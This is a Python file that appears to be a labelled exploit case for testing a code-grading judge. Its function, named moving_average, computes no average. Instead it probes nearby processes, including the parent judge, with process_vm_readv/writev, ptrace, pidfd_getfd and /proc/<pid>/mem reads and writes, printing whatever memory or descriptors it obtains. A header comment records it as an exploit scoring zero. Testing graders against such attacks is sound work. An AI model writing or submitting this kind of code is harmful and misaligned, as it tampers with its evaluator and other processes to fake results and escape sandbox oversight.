# verdict: wrong in every check  - reads and writes the judge's memory from outside
# tries: process_vm_readv and process_vm_writev on the parent, its parent and all processes it can name;
#        /proc/<pid>/mem and maps; ptrace in three ways; pidfd_getfd for the judge's descriptors. Prints what
#        it gets.
# seen: gpu-mode/pygpubench exploits (memory of the parent); ours for the rest
# points: 0
import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)
READV, WRITEV, PTRACE, PIDFD_OPEN, PIDFD_GETFD = 310, 311, 101, 434, 438
ATTACH, SEIZE, PEEK = 16, 0x4206, 2


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def maps(pid):
    try:
        return open(f"/proc/{pid}/maps").read()
    except OSError as error:
        return f"{error}"


def attempts(pid):
    buffer = ctypes.create_string_buffer(4096)
    local, remote = Vector(ctypes.addressof(buffer), 4096), Vector(0x400000, 4096)
    for number in (READV, WRITEV):
        yield "vm", LIBC.syscall(number, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    for request in (ATTACH, SEIZE, PEEK):
        yield "ptrace", LIBC.syscall(PTRACE, request, pid, 0, 0)
    pidfd = LIBC.syscall(PIDFD_OPEN, pid, 0)
    yield "pidfd", pidfd
    for descriptor in range(3, 30) if pidfd >= 0 else ():
        yield f"descriptor {descriptor}", LIBC.syscall(PIDFD_GETFD, pidfd, descriptor, 0)


def moving_average(values, window, out):
    me = os.getpid()
    for pid in sorted({os.getppid(), *range(max(me - 30, 1), me + 5), 1} - {me, 0}):
        got = [(what, result) for what, result in attempts(pid) if result >= 0]
        if got:
            print(pid, got, flush=True)
        text = maps(pid)
        if "r-xp" in text:
            print(pid, text[:2000], flush=True)
            try:
                with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
                    memory.seek(int(text.split("-")[0], 16))
                    print(memory.read(64), flush=True)
            except OSError:
                pass
